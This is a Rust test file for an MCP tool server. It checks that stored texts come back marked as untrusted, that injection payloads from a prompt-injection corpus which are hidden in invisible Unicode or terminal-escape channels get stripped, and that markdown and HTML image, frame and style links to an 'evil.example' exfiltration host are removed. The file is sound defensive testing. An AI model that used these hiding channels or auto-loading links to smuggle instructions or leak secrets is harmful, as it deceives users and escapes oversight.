//! Corpora of others through a tool: plain language comes back to the byte, and what hides in a channel does not.

use std::collections::BTreeMap;

use mcp_runtime::testing::Client;
use mcp_runtime::{Json, Untrusted, server};
use serde_json::{Value, json};

struct Board;

#[server(name = "board", unlimited)]
impl Board {
    /// Texts as they were stored.
    #[tool(any_caller, rate = inherit)]
    async fn read(&self, texts: Vec<String>) -> Json<Vec<Untrusted<String>>> {
        Json(texts.into_iter().map(Untrusted).collect())
    }
}

async fn read(texts: &[String]) -> Vec<String> {
    let client = Client::new(Board).expect("a server");
    let answer = client.call("read", json!({ "texts": texts })).await.expect("an answer");
    assert_eq!(answer.untrusted().len(), texts.len(), "every text is marked");
    let texts = serde_json::from_value(answer.json()["result"].clone());
    texts.expect("texts")
}

fn benign() -> Vec<String> {
    let prompts: Vec<Value> = serde_json::from_str(include_str!("../corpora/NotInject_one.json")).expect("a corpus");
    prompts.iter().map(|prompt| prompt["prompt"].as_str().expect("a prompt").to_owned()).collect()
}

fn attacks() -> Vec<String> {
    let attacks: BTreeMap<String, Vec<String>> =
        serde_json::from_str(include_str!("../corpora/bipia_text_attack_train.json")).expect("a corpus");
    attacks.into_values().flatten().collect()
}

#[tokio::test]
async fn plain_language_comes_back_to_the_byte() {
    for (corpus, least) in [(benign(), 100), (attacks(), 70)] {
        assert!(corpus.len() >= least, "{} texts", corpus.len());
        assert_eq!(read(&corpus).await, corpus);
    }
}

/// Ways to hide a text in another one, so that a model reads it and a person does not.
type Channel = fn(&str) -> String;

/// One of the variation selectors for each byte.
fn selectors(secret: &str) -> String {
    let selector = |byte: u8| if byte < 16 { 0xfe00 + u32::from(byte) } else { 0xe0100 + u32::from(byte) - 16 };
    secret.bytes().filter_map(|byte| char::from_u32(selector(byte))).collect()
}

/// Two invisible characters for the bits.
fn bits(secret: &str, zero: char, one: char) -> String {
    secret.bytes().flat_map(|byte| (0..8).map(move |bit| if byte >> bit & 1 == 0 { zero } else { one })).collect()
}

const INVISIBLE: &[(&str, Channel)] = &[
    ("tag characters", |secret| {
        secret.bytes().filter_map(|byte| char::from_u32(0xe0000 + u32::from(byte & 127))).collect()
    }),
    ("variation selectors", selectors),
    ("bits of invisible operators", |secret| bits(secret, '\u{2062}', '\u{2064}')),
    ("bits of zero width", |secret| bits(secret, '\u{200b}', '\u{feff}')),
    ("bits of joiners", |secret| bits(secret, '\u{200c}', '\u{200d}')),
    ("bits of direction", |secret| bits(secret, '\u{2066}', '\u{2069}')),
    ("bits of fillers", |secret| bits(secret, '\u{3164}', '\u{115f}')),
    ("the title of a terminal", |secret| format!("\u{1b}]0;{secret}\u{7}")),
    ("a terminal's device control", |secret| format!("\u{1b}P{secret}\u{1b}\\")),
];

#[tokio::test]
async fn what_is_hidden_in_a_text_does_not_come_back() {
    // Carriers whose last character joins nothing and takes no selector.
    let carriers: Vec<String> = benign().into_iter().filter(|text| text.ends_with(['.', '?', '!'])).collect();
    assert!(carriers.len() > 50, "{} carriers", carriers.len());
    for (channel, hide) in INVISIBLE {
        let pairs = attacks().into_iter().zip(carriers.iter().cycle());
        let (sent, carried): (Vec<_>, Vec<_>) =
            pairs.map(|(attack, carrier)| (format!("{carrier}{}", hide(&attack)), carrier.clone())).unzip();
        assert_eq!(read(&sent).await, carried, "{channel}");
    }
}

/// Ways to have a viewer send what a model was told to write.
const LOADING: &[(&str, Channel)] = &[
    ("an image", |url| format!("![chart]({url})")),
    ("an image by reference", |url| format!("![chart][c]\n\n[c]: {url} \"c\"")),
    ("an image in HTML", |url| format!("<img alt=chart src=\"{url}\">")),
    ("a frame", |url| format!("<iframe src='{url}'></iframe>")),
    ("a style sheet", |url| format!("<link rel=stylesheet href={url}>")),
    ("an imported style", |url| format!("<style>@import url({url});</style>")),
];

#[tokio::test]
async fn nothing_that_loads_by_itself_keeps_its_address() {
    for (channel, carry) in LOADING {
        let sent: Vec<_> = (0..20).map(|n| carry(&format!("https://evil.example/{n}?q=SECRET"))).collect();
        for text in read(&sent).await {
            assert!(!text.contains("evil.example") && !text.contains("SECRET"), "{channel}: {text}");
            assert!(text.contains("link removed"), "{channel} is not said: {text}");
        }
    }
}
